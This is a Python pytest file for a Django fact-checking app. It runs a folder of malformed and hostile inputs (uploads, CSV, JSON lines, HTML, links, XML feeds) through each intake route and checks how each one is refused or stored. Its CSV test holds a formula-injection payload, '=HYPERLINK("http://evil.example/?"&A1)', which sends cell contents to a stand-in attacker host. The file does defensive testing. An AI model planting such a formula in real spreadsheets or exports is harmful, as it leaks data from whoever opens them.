"""The files of bad and hostile input at every other door that could receive them: as files, as
lines of a file of many, as links and feeds; over REST and at the desk.

They are other people's words and stay beside the project; where they are not there, these tests
say so and are skipped.
"""

from __future__ import annotations

import html
import json
import socket
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, NamedTuple

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings

from claims import pipeline
from claims.batch_rows import Batch
from claims.feed_rows import Feed, FeedEntry
from claims.feeds import polling
from claims.models import Article, Claim, Extraction, Revision
from tests.intake.bulk import send, send_as, take_in
from tests.people import Program, ada, browser, eve
from tests.site import LOOPBACK, Site, gives, open_site

pytestmark = pytest.mark.django_db(transaction=True)

FOLDER = Path(__file__).resolve().parents[3] / "shared" / "bad-inputs"
INDEX = FOLDER / "index.jsonl"
ROWS = (
    [json.loads(line) for line in INDEX.read_text(encoding="utf-8").splitlines()]
    if INDEX.exists()
    else []
)
needs_files = pytest.mark.skipif(not ROWS, reason="the bad inputs are not beside the project")


class Answer(NamedTuple):
    """What a door said: whether the story came in, else the fields that are wrong."""

    taken: bool
    fields: frozenset[str] = frozenset()


def _rest(answer: Any) -> Answer:
    if answer.status_code in {200, 202}:
        return Answer(taken=True)
    assert answer.status_code in {400, 413, 422}, answer.content
    problem = answer.json()
    assert all(error["message"] for error in problem["errors"])
    return Answer(False, frozenset(error["field"] for error in problem["errors"]))


def _page(answer: Any) -> Answer:
    if answer.status_code == 302:
        return Answer(taken=True)
    assert answer.status_code in {400, 413, 422}, answer.content
    shown = answer.content.decode()
    assert 'role="alert"' in shown
    names = ("text", "url", "file", "source_url")
    return Answer(False, frozenset(name for name in names if f'id="{name}-wrong"' in shown))


def _row(answer: Any) -> Answer:
    if answer.status_code != 202:
        return _rest(answer)
    take_in()
    (row,) = Batch.objects.latest("id").rows.all()
    if row.outcome != "refused":
        return Answer(taken=True)
    assert all(error["message"] for error in row.errors)
    return Answer(False, frozenset(error["field"] for error in row.errors))


# ---- the doors ---------------------------------------------------------------------------------
def _upload(name: str, data: bytes) -> Answer:
    program = Program(ada())
    body = {"file": SimpleUploadedFile(name, data)}
    return _rest(program.client.post("/api/v1/articles/", body, headers=program.headers))


def _desk_upload(name: str, data: bytes) -> Answer:
    body = {"file": [SimpleUploadedFile(name, data)]}
    return _page(browser(ada()).post("/desk/articles/files/", body))


def _among_others(name: str, data: bytes) -> Answer:
    """One of two files of an upload; of the other nothing is said."""
    other = SimpleUploadedFile("other.txt", b"A story that is sound.")
    body = {"file": [SimpleUploadedFile(name, data), other]}
    assert browser(ada()).post("/desk/articles/files/", body).status_code in {302, 422}
    take_in()
    row = Batch.objects.latest("id").rows.get(line=1)
    Article.objects.filter(revisions__text="A story that is sound.").delete()
    return Answer(row.outcome != "refused", frozenset(error["field"] for error in row.errors))


def _line(**fields: Any) -> Answer:
    return _row(send(fields))


UPLOADS: dict[str, Callable[[str, bytes], Answer]] = {
    "rest": _upload,
    "desk": _desk_upload,
    "among others": _among_others,
}


def _cases(*kinds: str) -> list[Any]:
    found = [pytest.param(row, id=row["file"]) for row in ROWS if row["door"] in kinds]
    return found or [pytest.param({}, marks=needs_files)]


def _data(case: dict[str, Any]) -> bytes:
    return _file(str(case["file"]))


def _holds(case: dict[str, Any], answer: Answer, *also: str) -> None:
    """The index's right answer; the door may name its own field."""
    if case["expect"] != "either":
        assert answer.taken == (case["expect"] == "accepted"), answer
    if not answer.taken:
        named = {name.strip() for name in case["field"].split(",")}
        assert named <= answer.fields or answer.fields & set(also), answer
        assert not Article.objects.exists()
        return
    for run in Extraction.objects.filter(finished_at=None):
        pipeline.extract(run.id)
    run = Extraction.objects.latest("id")
    assert (run.status, run.error) == ("done", "")
    for claim in Claim.objects.all():
        assert run.revision.text[claim.start : claim.end] == claim.quote
    article = run.revision.article_id
    assert browser(ada()).get(f"/desk/articles/{article}/").status_code == 200


@pytest.mark.parametrize("door", UPLOADS)
@pytest.mark.parametrize("case", _cases("text", "file", "html"))
def test_as_a_file(case: dict[str, Any], door: str) -> None:
    _holds(case, UPLOADS[door](case["file"], _data(case)), "file", "text", "html")


@pytest.mark.parametrize("case", _cases("text"))
def test_as_the_text_of_a_line(case: dict[str, Any]) -> None:
    _holds(case, _line(text=_data(case).decode()))


@pytest.mark.parametrize("case", _cases("html"))
def test_as_a_page_over_rest_in_a_line_and_behind_a_link(case: dict[str, Any]) -> None:
    page = _data(case).decode()
    _holds(case, _rest(Program(ada()).post("articles/", {"html": page})))
    Article.objects.all().delete()
    _holds(case, _line(html=page))
    Article.objects.all().delete()
    with open_site() as site, override_settings(FACTCHECK_NET_ALLOW=LOOPBACK):
        site.pages["/"] = gives(_data(case), Content_Type="text/html")
        answer = Program(ada()).post("articles/", {"url": site.at("/")})
        _holds(case, _rest(answer), "url")


@pytest.mark.parametrize("case", _cases("json"))
def test_as_a_line(case: dict[str, Any]) -> None:
    line = b" ".join(_data(case).split(b"\n")) + b"\n"
    _holds(case, _row(send_as("application/x-ndjson", line)), "line")


@pytest.mark.parametrize("case", _cases("url"))
def test_as_a_link_everywhere(case: dict[str, Any], monkeypatch: pytest.MonkeyPatch) -> None:
    """A good one is asked for, here where no name is known."""
    monkeypatch.setattr(socket, "getaddrinfo", _unknown)
    url = _data(case).decode()
    program = Program(eve())
    answers = [
        program.post("articles/", {"url": url}),
        program.post("feeds/", {"url": url}),
    ]
    for answer in answers:
        (error,) = answer.json()["errors"]
        assert (answer.status_code, error["field"]) == (422, "url")
        assert (error["code"] == "unreachable") == (case["expect"] == "accepted")
        assert b"secret" not in answer.content
    for path in ("/desk/articles/link/", "/desk/feeds/subscribe/"):
        shown = browser(eve()).post(path, {"url": url})
        assert (shown.status_code, 'id="url-wrong"' in shown.content.decode()) == (422, True)
    assert _line(url=url) == Answer(False, frozenset({"url"}))
    assert not Article.objects.exists()


def _unknown(*_: Any, **__: Any) -> Any:
    raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")


# ---- files of many -----------------------------------------------------------------------------
def _file(name: str) -> bytes:
    return (FOLDER / name).read_bytes()


@needs_files
@pytest.mark.parametrize("door", ["rest", "desk"])
@pytest.mark.parametrize("name", ["truncated.jsonl", "bad-line-in-the-middle.jsonl"])
def test_of_lines_the_good_ones_are_kept_and_the_bad_ones_named(name: str, door: str) -> None:
    wanted = {
        "truncated.jsonl": [(4, "line")],
        "bad-line-in-the-middle.jsonl": [(3, "line"), (6, "text")],
    }
    for again in (False, True):
        if door == "rest":
            assert send(_file(name)).status_code == 202
        else:
            body = {"file": [SimpleUploadedFile(name, _file(name))]}
            assert browser(ada()).post("/desk/articles/files/", body).status_code == 302
        take_in()
        batch = Batch.objects.latest("id")
        refused = batch.rows.filter(outcome="refused").order_by("line")
        assert [(row.line, row.errors[0]["field"]) for row in refused] == wanted[name]
        # The same words under another headline are the same article: one of three, in one file.
        stories = 1 if name == "truncated.jsonl" else 3
        assert (batch.created, batch.created + batch.duplicate) == (0 if again else stories, 3)
    assert Article.objects.count() == stories


@needs_files
def test_tables_are_read_as_they_were_typed() -> None:
    assert send_as("text/csv", _file("formula-injection.csv")).status_code == 202
    take_in()
    lines = _file("formula-injection.csv").decode().count("\n")
    assert Batch.objects.get().refused == 0
    headlines = list(Article.objects.values_list("headline", flat=True))
    assert '=HYPERLINK("http://evil.example/?"&A1)' in headlines or lines > 1
    Article.objects.all().delete()
    assert send_as("text/csv", _file("bom-and-semicolons.csv")).status_code == 202
    take_in()
    first = Article.objects.order_by("id").first()
    assert first is not None
    assert first.published_at is not None
    assert (first.headline, f"{first.published_at:%F}") == ("Ferry service halted", "2024-05-06")
    assert Article.objects.count() == 2


@needs_files
def test_tables_that_cannot_be_read_so_are_refused_whole() -> None:
    answer = send_as("text/csv", _file("wrong-column-names.csv"))
    assert {"headline", "text"} <= {error["field"] for error in answer.json()["errors"]}
    assert "Body" in answer.content.decode()
    answer = send_as("text/csv", _file("unclosed-quote.csv"))
    (error,) = answer.json()["errors"]
    assert (answer.status_code, error["field"]) == (422, "line 2")
    assert "never closes" in error["message"]
    body = {"file": [SimpleUploadedFile("t.csv", _file("wrong-column-names.csv"))]}
    asked = browser(ada()).post("/desk/articles/files/", body)
    assert "Which column is which?" in browser(ada()).get(asked["Location"]).content.decode()
    assert not Article.objects.exists()


# ---- feeds -------------------------------------------------------------------------------------
@pytest.fixture
def site() -> Iterator[Site]:
    with open_site() as site, override_settings(FACTCHECK_NET_ALLOW=LOOPBACK):
        yield site


@pytest.mark.parametrize("case", _cases("feed"))
def test_as_a_feed(case: dict[str, Any], site: Site) -> None:
    site.pages["/feed"] = gives(_data(case), Content_Type="application/xml")
    answer = Program(eve()).post("feeds/", {"url": site.at("/feed"), "whole": "never"})
    if case["expect"] == "rejected":
        (error,) = answer.json()["errors"]
        assert (answer.status_code, error["field"]) == (422, "url")
        assert ("entities" in error["message"]) != ("web page" in error["message"])
        assert not Feed.objects.exists()
        return
    assert answer.status_code == 201
    feed = Feed.objects.get()
    polling.poll(feed.id)
    entries = FeedEntry.objects.filter(feed=feed)
    assert [one.error for one in entries] == [""] * len(entries)
    texts = Revision.objects.count()
    Feed.objects.update(next_at=feed.created_at, etag="")
    polling.poll(feed.id)
    assert Revision.objects.count() == texts


@needs_files
def test_a_feeds_link_and_time_are_those_that_it_means(site: Site) -> None:
    site.pages["/feed"] = gives(_file("atom-relative-links.xml"), Content_Type="application/xml")
    Program(eve()).post("feeds/", {"url": site.at("/feed"), "whole": "never"})
    polling.poll(Feed.objects.get().id)
    article = Article.objects.get()
    assert article.source_url == "http://feed.example/2024/ferry?a=1&b=2"
    assert article.published_at is not None
    assert article.published_at.isoformat() == "2024-05-05T20:00:00+00:00"


@needs_files
def test_the_encoding_that_was_read_is_on_the_page() -> None:
    for name, said in (
        ("windows-1252-smart-quotes.txt", "read as cp1252"),
        ("utf-16-with-bom.txt", "read as utf-16"),
    ):
        assert _upload(name, _file(name)).taken
        article = Article.objects.latest("id")
        shown = html.unescape(browser(ada()).get(f"/desk/articles/{article.id}/").content.decode())
        assert said in shown
        assert "\x93" not in article.revisions.get().text
